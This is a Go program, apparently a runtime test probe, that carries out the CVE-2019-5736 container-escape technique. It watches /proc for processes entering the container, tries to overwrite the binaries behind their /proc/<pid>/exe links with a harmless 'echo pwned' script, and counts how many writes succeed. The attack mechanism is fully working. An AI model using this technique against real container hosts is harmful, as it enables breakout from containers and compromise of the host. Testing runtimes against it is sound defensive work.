// Command exewatch runs inside a container and attacks CVE-2019-5736: it
// watches /proc for processes entering the container and tries to write
// to the binary behind their /proc/<pid>/exe. It prints what it saw and
// how many writes succeeded, then exits after -seconds, or once the -stop
// file exists.
package main

import (
	"flag"
	"fmt"
	"golang.org/x/sys/unix"
	"os"
	"strconv"
	"strings"
	"time"
)

func main() {
	seconds := flag.Float64("seconds", 3, "how long to watch")
	ready := flag.String("ready", "", "file to create once watching")
	stop := flag.String("stop", "", "stop watching once this file exists")
	flag.Parse()
	self := os.Getpid()
	seen := map[string]int{}
	known := map[int]string{} // pid -> exe target last seen
	denied := map[int]bool{}  // pids whose exe we could not read
	writes, fds := 0, []int{}
	if *ready != "" {
		os.WriteFile(*ready, nil, 0o644)
	}
	deadline := time.Now().Add(time.Duration(*seconds * float64(time.Second)))
	for time.Now().Before(deadline) {
		if *stop != "" {
			if _, err := os.Stat(*stop); err == nil {
				break
			}
		}
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self || pid == 1 {
				continue
			}
			exe := "/proc/" + e.Name() + "/exe"
			target, err := os.Readlink(exe)
			if err != nil {
				// A runtime helper joining the container may deny us its
				// exe (it is not dumpable): count it by its command line,
				// which anyone may read.
				if cmd, _ := os.ReadFile("/proc/" + e.Name() + "/cmdline"); strings.HasPrefix(string(cmd), "husk-init\x00") &&
					!denied[pid] {
					denied[pid] = true
					seen["husk-init (exe denied)"]++
				}
				continue
			}
			if strings.HasSuffix(target, "/exewatch") || known[pid] == target {
				continue
			}
			known[pid] = target
			seen[target]++
			// Keep a handle: the classic attack reopens it for writing
			// once the runtime has exec'd away from its binary.
			if fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
				fds = append(fds, fd)
			}
			if f, err := os.OpenFile(exe, os.O_WRONLY, 0); err == nil {
				if _, err := f.Write([]byte("#!/bin/sh\necho pwned\n")); err == nil {
					writes++
				}
				f.Close()
			}
		}
		for _, fd := range fds {
			if f, err := os.OpenFile("/proc/self/fd/"+strconv.Itoa(fd), os.O_WRONLY, 0); err == nil {
				if _, err := f.Write([]byte("x")); err == nil {
					writes++
				}
				f.Close()
			}
		}
	}
	for t, n := range seen {
		fmt.Printf("seen %s %d\n", t, n)
	}
	fmt.Printf("writes %d\n", writes)
}
